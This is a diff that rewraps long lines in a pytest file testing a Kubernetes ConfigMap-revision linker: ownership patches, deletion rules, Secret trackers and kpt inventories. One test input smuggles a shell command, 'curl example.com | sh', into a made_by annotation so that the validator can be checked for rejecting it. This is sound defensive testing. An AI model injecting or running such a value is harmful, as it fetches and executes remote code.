@@ -38,7 +38,9 @@ def revision(*owners: str, is_wanted: bool = True, created: float = 0.0) -> Live
 
 def current(text: str, *names: str, is_being_deleted: bool = False) -> Consumer:
     """Build a consumer that says what is wanted now, such as a Deployment."""
-    return Consumer(owner(text), is_current=True, references=frozenset(names), is_being_deleted=is_being_deleted)
+    return Consumer(
+        owner(text), is_current=True, references=frozenset(names), is_being_deleted=is_being_deleted
+    )
 
 
 def past(text: str, *names: str, is_being_deleted: bool = False, can_own: bool = True) -> Consumer:
@@ -56,7 +58,10 @@ INVENTORY = "ConfigMap/web-linker"
 
 
 def observed(
-    live: LiveRevision, *consumers: Consumer, listed: tuple[str, ...] = (), has_inventory: bool = True
+    live: LiveRevision,
+    *consumers: Consumer,
+    listed: tuple[str, ...] = (),
+    has_inventory: bool = True,
 ) -> Observation:
     """Build an observation at 1,000 seconds."""
     inventory = current(INVENTORY, *listed) if has_inventory else None
@@ -81,12 +86,17 @@ WEB = current("Deployment/web", NAME)
 MOVED_ON = current("Deployment/web")
 
 LEFT_ALONE = [
-    pytest.param(observed(revision(INVENTORY)), id="an unreferenced revision that the inventory owns"),
+    pytest.param(
+        observed(revision(INVENTORY)), id="an unreferenced revision that the inventory owns"
+    ),
     pytest.param(
         observed(revision(INVENTORY, "Deployment/web"), MOVED_ON),
         id="a workload that has moved on stays an owner",
     ),
-    pytest.param(observed(revision(INVENTORY, "Widget/x"), listed=(NAME,)), id="an owner that somebody else has set"),
+    pytest.param(
+        observed(revision(INVENTORY, "Widget/x"), listed=(NAME,)),
+        id="an owner that somebody else has set",
+    ),
     pytest.param(
         observed(revision(INVENTORY, "ReplicaSet/gone")),
         id="an owner that is gone, which the garbage collector removes",
@@ -103,18 +113,30 @@ LEFT_ALONE = [
         observed(revision(), WEB, has_inventory=False),
         id="a revision without owners and without an inventory: nothing collects it",
     ),
-    pytest.param(observed(revision()._replace(is_retained=True), WEB), id="a retained revision that is referenced"),
+    pytest.param(
+        observed(revision()._replace(is_retained=True), WEB),
+        id="a retained revision that is referenced",
+    ),
     pytest.param(
         observed(revision("Widget/x")._replace(is_retained=True), WEB),
         id="a retained revision with an owner that somebody else has set",
     ),
-    pytest.param(observed(revision(INVENTORY, is_wanted=False)), id="an unreferenced revision without the annotation"),
+    pytest.param(
+        observed(revision(INVENTORY, is_wanted=False)),
+        id="an unreferenced revision without the annotation",
+    ),
 ]
 
 PATCHED = [
-    pytest.param(observed(revision()), f"+ {INVENTORY}", id="the inventory owns every revision, rendered or not"),
     pytest.param(
-        observed(revision(INVENTORY), WEB, past("ReplicaSet/web-2", NAME), past("ReplicaSet/web-1", NAME)),
+        observed(revision()),
+        f"+ {INVENTORY}",
+        id="the inventory owns every revision, rendered or not",
+    ),
+    pytest.param(
+        observed(
+            revision(INVENTORY), WEB, past("ReplicaSet/web-2", NAME), past("ReplicaSet/web-1", NAME)
+        ),
         "+ Deployment/web, + ReplicaSet/web-1, + ReplicaSet/web-2",
         id="every consumer becomes an owner, not only the newest",
     ),
@@ -129,7 +151,9 @@ PATCHED = [
         id="an inventory that has been created again",
     ),
     pytest.param(
-        observed(revision("Deployment/web"), WEB, past("ReplicaSet/web-1", NAME), has_inventory=False),
+        observed(
+            revision("Deployment/web"), WEB, past("ReplicaSet/web-1", NAME), has_inventory=False
+        ),
         "+ ReplicaSet/web-1",
         id="a revision that has owners gets more although there is no inventory",
     ),
@@ -149,7 +173,12 @@ PATCHED = [
         id="owners and annotation in one patch",
     ),
     pytest.param(
-        observed(revision("Deployment/web", "Widget/x", INVENTORY, "ReplicaSet/gone")._replace(is_retained=True), WEB),
+        observed(
+            revision("Deployment/web", "Widget/x", INVENTORY, "ReplicaSet/gone")._replace(
+                is_retained=True
+            ),
+            WEB,
+        ),
         f"- Deployment/web, - ReplicaSet/gone, - {INVENTORY}",
         id="a retained revision loses the owners that a linker has added",
     ),
@@ -205,21 +234,41 @@ OLD = revision(INVENTORY, "Deployment/web", "ReplicaSet/gone")
     ("plan", "seen"),
     [
         pytest.param(planned(), observed(OLD, WEB), id="a referenced revision"),
-        pytest.param(planned(), observed(OLD, past("Pod/a", NAME, can_own=False)), id="one that a pod references"),
-        pytest.param(planned(), observed(OLD, listed=(NAME,)), id="a revision that the inventory lists"),
+        pytest.param(
+            planned(),
+            observed(OLD, past("Pod/a", NAME, can_own=False)),
+            id="one that a pod references",
+        ),
+        pytest.param(
+            planned(), observed(OLD, listed=(NAME,)), id="a revision that the inventory lists"
+        ),
         pytest.param(planned(NAME), observed(OLD), id="a revision of the run's own rendering"),
         pytest.param(planned(), observed(OLD, has_inventory=False), id="without an inventory"),
         pytest.param(
             planned(),
-            observed(OLD)._replace(unread=(Unread(CONSUMER_KINDS[0], "not permitted to list", is_served=True),)),
+            observed(OLD)._replace(
+                unread=(Unread(CONSUMER_KINDS[0], "not permitted to list", is_served=True),)
+            ),
             id="while a kind of consumers cannot be read",
         ),
-        pytest.param(planned(), observed(revision("Widget/x")), id="an owner of a kind that the linker does not read"),
-        pytest.param(planned(), observed(revision("ConfigMap/other")), id="another ConfigMap as owner"),
+        pytest.param(
+            planned(),
+            observed(revision("Widget/x")),
+            id="an owner of a kind that the linker does not read",
+        ),
+        pytest.param(
+            planned(), observed(revision("ConfigMap/other")), id="another ConfigMap as owner"
+        ),
         pytest.param(planned(), observed(OLD._replace(is_retained=True)), id="a retained revision"),
-        pytest.param(planned(), observed(revision(created=400.0)), id="a revision created at that time"),
+        pytest.param(
+            planned(), observed(revision(created=400.0)), id="a revision created at that time"
+        ),
         pytest.param(planned(), observed(revision(created=401.0)), id="a younger revision"),
-        pytest.param(planned(), observed(OLD._replace(is_tracker=True)), id="a tracker that is no owner of its Secret"),
+        pytest.param(
+            planned(),
+            observed(OLD._replace(is_tracker=True)),
+            id="a tracker that is no owner of its Secret",
+        ),
     ],
 )
 def test_these_revisions_are_not_deleted(plan: LinkPlan, seen: Observation) -> None:
@@ -231,8 +280,14 @@ def test_these_revisions_are_not_deleted(plan: LinkPlan, seen: Observation) -> N
     [
         pytest.param(planned(), OLD, id="with owners that linkers have added"),
         pytest.param(planned(), revision(created=399.0), id="without owners"),
-        pytest.param(planned(), OLD._replace(is_wanted=False), id="without the annotation, after a kill"),
-        pytest.param(planned(), OLD._replace(is_tracker=True, owns_secret=True), id="a tracker that owns its Secret"),
+        pytest.param(
+            planned(), OLD._replace(is_wanted=False), id="without the annotation, after a kill"
+        ),
+        pytest.param(
+            planned(),
+            OLD._replace(is_tracker=True, owns_secret=True),
+            id="a tracker that owns its Secret",
+        ),
         pytest.param(
             planned(kinds=(Kind("example.com/v1", "Widget", "widgets"),)),
             revision("Widget/x"),
@@ -271,7 +326,9 @@ def test_what_makes_a_leaking_secret_is_deleted_before_its_tracker(group: str, k
 
 
 def test_what_makes_several_secrets_stays_while_one_of_them_is_needed() -> None:
-    db = OLD._replace(name="db-gggggggggg", uid="db", is_tracker=True, made_by="SopsSecret/both-gggggggggg")
+    db = OLD._replace(
+        name="db-gggggggggg", uid="db", is_tracker=True, made_by="SopsSecret/both-gggggggggg"
+    )
     api = db._replace(name="api-gggggggggg", uid="api")
     names = ["configmap/db-gggggggggg", "configmap/api-gggggggggg"]
     assert leaking(db, api) == ["sopssecret.isindir.github.com/both-gggggggggg", *names]
@@ -282,7 +339,10 @@ def test_what_makes_several_secrets_stays_while_one_of_them_is_needed() -> None:
 @pytest.mark.parametrize(
     "annotations",
     [
-        pytest.param({"made_by": "ExternalSecret/a; curl example.com | sh"}, id="a name that a shell would run"),
+        pytest.param(
+            {"made_by": "ExternalSecret/a; curl example.com | sh"},
+            id="a name that a shell would run",
+        ),
         pytest.param({"made_by": "ExternalSecret/--all"}, id="a name that is an option"),
         pytest.param({"made_by": "ExternalSecret"}, id="no name"),
         pytest.param({"made_by": "Namespace/shop"}, id="a kind that makes no Secret"),
@@ -303,7 +363,11 @@ KPTS = revision()._replace(is_in_kpt_inventory=True)
         pytest.param(observed(KPTS), True, id="superseded, and still in kpt's inventory"),
         pytest.param(observed(KPTS, listed=(NAME,)), False, id="rendered now"),
         pytest.param(observed(revision()), False, id="kpt has let go of it, or was never there"),
-        pytest.param(observed(KPTS, has_inventory=False), False, id="rendered by this run, without an inventory"),
+        pytest.param(
+            observed(KPTS, has_inventory=False),
+            False,
+            id="rendered by this run, without an inventory",
+        ),
     ],
 )
 def test_a_superseded_revision_is_left_to_kpt(seen: Observation, *, is_left: bool) -> None:
